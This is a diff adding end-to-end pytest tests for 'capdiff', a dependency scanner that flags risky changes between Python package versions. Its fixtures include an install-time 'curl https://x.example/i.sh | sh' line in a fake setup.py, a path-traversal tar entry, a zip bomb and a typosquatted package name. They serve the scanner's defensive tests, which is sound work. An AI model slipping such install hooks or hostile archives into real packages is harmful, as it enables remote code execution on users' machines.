@@ -1,0 +1,425 @@
+"""`capdiff inspect|compare|scan` end to end: a fake index over real HTTP, built packages."""
+
+from __future__ import annotations
+
+import json
+import sqlite3
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from bot.cli import main
+from tests.analysis.builders import TarEntry, build_sdist, build_wheel, raw_tar, raw_zip
+from tests.fakes.index import FakeIndex
+from tests.fakes.server import serve_app
+from tests.gitfixture import commit, git, new_repo
+
+BENIGN = "def run():\n    return 1\n"
+SHELL = "import subprocess\n\ndef run():\n    return subprocess.run(['curl', 'https://example.com/x'])\n"
+SHELL_EVIDENCE = "return subprocess.run(['curl', 'https://example.com/x'])"
+INSTALL_CURL = "import os\nos.system('curl https://x.example/i.sh | sh')\n"
+
+
+def publish(index: FakeIndex, name: str, version: str, files: dict[str, str]) -> None:
+    """An sdist with every file and a wheel with the package's installed files."""
+    index.add_sdist(name, version, files)
+    installed = {p: c for p, c in files.items() if p.startswith(name.replace("-", "_") + "/")}
+    index.add_wheel(name, version, installed)
+
+
+@pytest.fixture(scope="module")
+def fake() -> FakeIndex:
+    index = FakeIndex()
+    publish(index, "demo", "1.0", {"demo/__init__.py": BENIGN})
+    publish(index, "demo", "2.0", {"demo/__init__.py": SHELL})
+    # A new subprocess call only in the sdist's tests: nothing installed changes.
+    publish(
+        index,
+        "demo",
+        "2.1",
+        {
+            "demo/__init__.py": SHELL,
+            "tests/test_demo.py": "import subprocess\nsubprocess.run(['ls'])\n",
+        },
+    )
+    # The call moved to another module: not new.
+    publish(
+        index,
+        "demo",
+        "2.2",
+        {"demo/__init__.py": "from demo.tools import run\n", "demo/tools.py": SHELL},
+    )
+    publish(index, "evil", "1.0", {"evil/__init__.py": BENIGN})
+    index.add_sdist("evil", "2.0", {"evil/__init__.py": BENIGN, "setup.py": INSTALL_CURL})
+    publish(index, "reqeusts", "1.0", {"reqeusts/__init__.py": BENIGN})
+    # 2.0 requires a package that 1.0 did not: it is analyzed too.
+    publish(index, "parent", "1.0", {"parent/__init__.py": BENIGN})
+    index.add_sdist(
+        "parent",
+        "2.0",
+        {
+            "parent/__init__.py": BENIGN,
+            "PKG-INFO": (
+                "Metadata-Version: 2.1\nName: parent\nVersion: 2.0\nRequires-Dist: child>=1\n"
+            ),
+        },
+    )
+    index.add_sdist(
+        "child",
+        "1.0",
+        {
+            "child/__init__.py": "import os\nos.system('curl https://x.example/i.sh | sh')\n",
+            "setup.py": INSTALL_CURL,
+        },
+    )
+    # Listed, but its file is gone (404).
+    index.add(
+        "gone", "1.0", {"gone-1.0.tar.gz": build_sdist("gone", "1.0", {"gone/__init__.py": ""})}
+    )
+    index.fail("/files/gone/gone-1.0.tar.gz", 404, times=10**6)
+    # Hostile archives.
+    index.add(
+        "bomb",
+        "1.0",
+        {"bomb-1.0-py3-none-any.whl": raw_zip({"bomb/__init__.py": b"\0" * 20_000_000})},
+    )
+    index.add(
+        "traversal",
+        "1.0",
+        {
+            "traversal-1.0.tar.gz": raw_tar(
+                [
+                    TarEntry(
+                        name="traversal-1.0/PKG-INFO", data=b"Name: traversal\nVersion: 1.0\n"
+                    ),
+                    TarEntry(name="../../etc/evil.py", data=b"import os\n"),
+                ]
+            )
+        },
+    )
+    return index
+
+
+@pytest.fixture(scope="module")
+def index_url(fake: FakeIndex) -> Iterator[str]:
+    with serve_app(fake.app) as base:
+        yield f"{base}/simple"
+
+
+def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
+    code = main(list(args))
+    out, err = capsys.readouterr()
+    return code, out, err
+
+
+def run_json(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, dict[str, object]]:
+    code, out, err = run(capsys, *args, "--format", "json")
+    assert err == "" or code == 0, err
+    return code, json.loads(out)
+
+
+def common(index_url: str, cache: Path) -> list[str]:
+    return ["--index-url", index_url, "--cache-dir", str(cache)]
+
+
+def test_inspect_json_shape(
+    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
+) -> None:
+    code, document = run_json(capsys, "inspect", "demo==2.0", *common(index_url, tmp_path))
+    assert code == 0
+    assert document == {
+        "package": "demo",
+        "version": "2.0",
+        "alerts": [
+            {
+                "type": "shell",
+                "severity": "medium",
+                "action": "warn",
+                "message": "Starts a process with subprocess.run.",
+                "file": "demo/__init__.py",
+                "line": 4,
+                "evidence": SHELL_EVIDENCE,
+                "artifact": "demo-2.0-py3-none-any.whl",
+            },
+            {
+                "type": "no-source-link",
+                "severity": "low",
+                "action": "monitor",
+                "message": "demo names no source repository, so its code cannot be checked "
+                "against what was published.",
+                "file": None,
+                "line": None,
+                "evidence": "",
+                "artifact": "",
+            },
+        ],
+        "incomplete": False,
+        "incomplete_reasons": [],
+    }
+
+
+def alert_keys(document: dict[str, object]) -> list[tuple[object, ...]]:
+    alerts = document["alerts"]
+    assert isinstance(alerts, list)
+    return [(a["type"], a["file"], a["line"]) for a in alerts]
+
+
+def test_compare_reports_only_new_alerts_and_the_warm_run_downloads_nothing(
+    capsys: pytest.CaptureFixture[str], fake: FakeIndex, index_url: str, tmp_path: Path
+) -> None:
+    code, document = run_json(
+        capsys, "compare", "demo==1.0", "demo==2.0", *common(index_url, tmp_path)
+    )
+    assert code == 0
+    assert document["old_version"] == "1.0" and document["new_version"] == "2.0"
+    assert alert_keys(document) == [("shell", "demo/__init__.py", 4)]
+    files_before = _file_rows(tmp_path)
+    before = len(fake.requests)
+    again = run_json(capsys, "compare", "demo==1.0", "demo==2.0", *common(index_url, tmp_path))
+    assert again == (code, document)
+    assert fake.requests[before:] == []  # index pages and archives all from the cache
+    assert _file_rows(tmp_path) == files_before
+
+
+def _file_rows(cache: Path) -> int:
+    with sqlite3.connect(cache / "analysis.sqlite") as connection:
+        (count,) = connection.execute("SELECT count(*) FROM file_results").fetchone()
+    return int(count)
+
+
+def test_compare_ignores_tests_and_moved_code(
+    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
+) -> None:
+    _, tests_only = run_json(
+        capsys, "compare", "demo==2.0", "demo==2.1", *common(index_url, tmp_path)
+    )
+    assert alert_keys(tests_only) == []
+    _, moved = run_json(capsys, "compare", "demo==2.0", "demo==2.2", *common(index_url, tmp_path))
+    assert alert_keys(moved) == []
+
+
+def test_local_archives(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
+    old = tmp_path / "demo-1.0-py3-none-any.whl"
+    new = tmp_path / "demo-2.0-py3-none-any.whl"
+    old.write_bytes(build_wheel("demo", "1.0", {"demo/__init__.py": BENIGN}))
+    new.write_bytes(build_wheel("demo", "2.0", {"demo/__init__.py": SHELL}))
+    args = ["--index-url", "http://127.0.0.1:9/simple", "--cache-dir", str(tmp_path / "c")]
+    code, inspected = run_json(capsys, "inspect", str(new), *args)
+    assert code == 0
+    assert inspected["package"] == "demo" and inspected["version"] == "2.0"
+    assert alert_keys(inspected) == [("shell", "demo/__init__.py", 4)]
+    _, compared = run_json(capsys, "compare", str(old), str(new), *args)
+    assert alert_keys(compared) == [("shell", "demo/__init__.py", 4)]
+    _, same = run_json(capsys, "compare", str(new), str(new), *args)
+    assert alert_keys(same) == []
+
+
+def test_inspect_unknown_target_is_exit_2(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    code, out, err = run(capsys, "inspect", str(tmp_path / "missing.whl"))
+    assert (code, out) == (2, "")
+    assert "is neither name==version nor an existing archive file" in err
+
+
+def test_inspect_missing_release_is_incomplete(
+    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
+) -> None:
+    code, document = run_json(capsys, "inspect", "gone==1.0", *common(index_url, tmp_path))
+    assert code == 0
+    assert document["incomplete"] is True
+    (reason,) = document["incomplete_reasons"]  # type: ignore[misc]
+    assert "gone-1.0.tar.gz: not found" in reason
+
+
+@pytest.mark.parametrize(
+    ("name", "reason"),
+    [
+        (
+            "bomb",
+            "bomb-1.0-py3-none-any.whl: 'bomb/__init__.py' not analyzed: "
+            "compression ratio above 100",
+        ),
+        (
+            "traversal",
+            "traversal-1.0.tar.gz: '../../etc/evil.py' not analyzed: path traversal (..)",
+        ),
+    ],
+)
+def test_hostile_archives_are_incomplete_not_a_crash(
+    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path, name: str, reason: str
+) -> None:
+    code, document = run_json(capsys, "inspect", f"{name}==1.0", *common(index_url, tmp_path))
+    assert code == 0
+    assert document["incomplete"] is True, document
+    assert document["incomplete_reasons"] == [reason]
+
+
+# -- scan ----------------------------------------------------------------------------------------
+
+
+def scan_repo(tmp_path: Path, base_files: dict[str, str], head_files: dict[str, str]) -> Path:
+    repo = new_repo(tmp_path / "repo")
+    commit(repo, base_files, "base")
+    git(repo, "branch", "base")
+    commit(repo, head_files, "head")
+    return repo
+
+
+def scan(
+    capsys: pytest.CaptureFixture[str], repo: Path, index_url: str, cache: Path, fmt: str = "json"
+) -> tuple[int, str, str]:
+    return run(
+        capsys,
+        "scan",
+        "--repo",
+        str(repo),
+        "--base",
+        "base",
+        "--head",
+        "HEAD",
+        "--format",
+        fmt,
+        *common(index_url, cache),
+    )
+
+
+def test_scan_upgrade_with_a_warning_passes_in_every_format(
+    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
+) -> None:
+    repo = scan_repo(
+        tmp_path, {"requirements.txt": "demo==1.0\n"}, {"requirements.txt": "demo==2.0\n"}
+    )
+    code, out, _ = scan(capsys, repo, index_url, tmp_path / "cache")
+    assert code == 0
+    document = json.loads(out)
+    assert document["verdict"] == "pass"
+    (package,) = document["packages"]
+    assert (package["name"], package["change"], package["old_version"], package["new_version"]) == (
+        "demo",
+        "upgraded",
+        "1.0",
+        "2.0",
+    )
+    assert [(a["type"], a["action"]) for a in package["alerts"]] == [("shell", "warn")]
+    code, text, _ = scan(capsys, repo, index_url, tmp_path / "cache", "text")
+    assert code == 0
+    assert text == (
+        "1 changed dependency (requirements.txt)\n"
+        "  ⚠  demo 1.0 → 2.0  shell demo/__init__.py:4\n"
+        "no blocking findings, 1 warning — exit 0\n"
+    )
+    code, markdown, _ = scan(capsys, repo, index_url, tmp_path / "cache", "markdown")
+    assert code == 0 and "demo" in markdown and "subprocess.run" in markdown
+
+
+def test_scan_install_time_curl_blocks(
+    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
+) -> None:
+    repo = scan_repo(
+        tmp_path, {"requirements.txt": "evil==1.0\n"}, {"requirements.txt": "evil==2.0\n"}
+    )
+    code, out, _ = scan(capsys, repo, index_url, tmp_path / "cache")
+    assert code == 1
+    document = json.loads(out)
+    assert document["verdict"] == "block"
+    (package,) = document["packages"]
+    assert ("install-network", "block", "setup.py", 2) in [
+        (a["type"], a["action"], a["file"], a["line"]) for a in package["alerts"]
+    ]
+
+
+def test_scan_bad_ref_is_exit_2(
+    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
+) -> None:
+    repo = scan_repo(
+        tmp_path, {"requirements.txt": "demo==1.0\n"}, {"requirements.txt": "demo==2.0\n"}
+    )
+    code, out, err = run(
+        capsys,
+        "scan",
+        "--repo",
+        str(repo),
+        "--base",
+        "no-such-ref",
+        *common(index_url, tmp_path / "cache"),
+    )
+    assert (code, out) == (2, "")
+    assert err.startswith("capdiff: ")
+
+
+def test_scan_added_typosquat_blocks(
+    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
+) -> None:
+    repo = scan_repo(
+        tmp_path,
+        {"requirements.txt": "demo==1.0\n"},
+        {"requirements.txt": "demo==1.0\nreqeusts==1.0\n"},
+    )
+    code, out, _ = scan(capsys, repo, index_url, tmp_path / "cache")
+    assert code == 1
+    (package,) = json.loads(out)["packages"]
+    assert package["name"] == "reqeusts" and package["change"] == "added"
+    typosquat = [a for a in package["alerts"] if a["type"] == "typosquat"]
+    assert [a["action"] for a in typosquat] == ["block"]
+    assert "'requests'" in typosquat[0]["message"]
+
+
+def test_scan_follows_a_new_requirement(
+    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
+) -> None:
+    repo = scan_repo(
+        tmp_path, {"requirements.txt": "parent==1.0\n"}, {"requirements.txt": "parent==2.0\n"}
+    )
+    code, out, _ = scan(capsys, repo, index_url, tmp_path / "cache")
+    document = json.loads(out)
+    assert code == 1, document
+    by_name = {p["name"]: p for p in document["packages"]}
+    assert sorted(by_name) == ["child", "parent"]
+    child = by_name["child"]
+    assert (child["change"], child["new_version"], child["via"]) == ("added", "1.0", ["parent"])
+    assert "install-network" in [a["type"] for a in child["alerts"]]
+
+
+def test_scan_missing_release_is_incomplete(
+    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
+) -> None:
+    repo = scan_repo(
+        tmp_path,
+        {"requirements.txt": "demo==1.0\n"},
+        {"requirements.txt": "demo==1.0\ngone==1.0\n"},
+    )
+    code, out, _ = scan(capsys, repo, index_url, tmp_path / "cache")
+    document = json.loads(out)
+    assert (code, document["verdict"]) == (0, "incomplete")
+    (package,) = document["packages"]
+    assert package["name"] == "gone" and package["incomplete_reasons"]
+
+
+def test_scan_policy_is_read_from_the_base_only(
+    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
+) -> None:
+    strict = "alerts:\n  shell: block\n"
+    base_policy = scan_repo(
+        tmp_path / "a",
+        {"requirements.txt": "demo==1.0\n", ".github/capdiff.yml": strict},
+        {"requirements.txt": "demo==2.0\n"},
+    )
+    code, out, _ = scan(capsys, base_policy, index_url, tmp_path / "cache")
+    assert (code, json.loads(out)["verdict"]) == (1, "block")
+    head_policy = scan_repo(
+        tmp_path / "b",
+        {"requirements.txt": "demo==1.0\n"},
+        {"requirements.txt": "demo==2.0\n", ".github/capdiff.yml": strict},
+    )
+    code, out, _ = scan(capsys, head_policy, index_url, tmp_path / "cache")
+    assert (code, json.loads(out)["verdict"]) == (0, "pass")
+    # ...and a head that loosens the base's policy does not loosen this check.
+    loosened = scan_repo(
+        tmp_path / "c",
+        {"requirements.txt": "demo==1.0\n", ".github/capdiff.yml": strict},
+        {"requirements.txt": "demo==2.0\n", ".github/capdiff.yml": "alerts:\n  shell: ignore\n"},
+    )
+    code, _, _ = scan(capsys, loosened, index_url, tmp_path / "cache")
+    assert code == 1
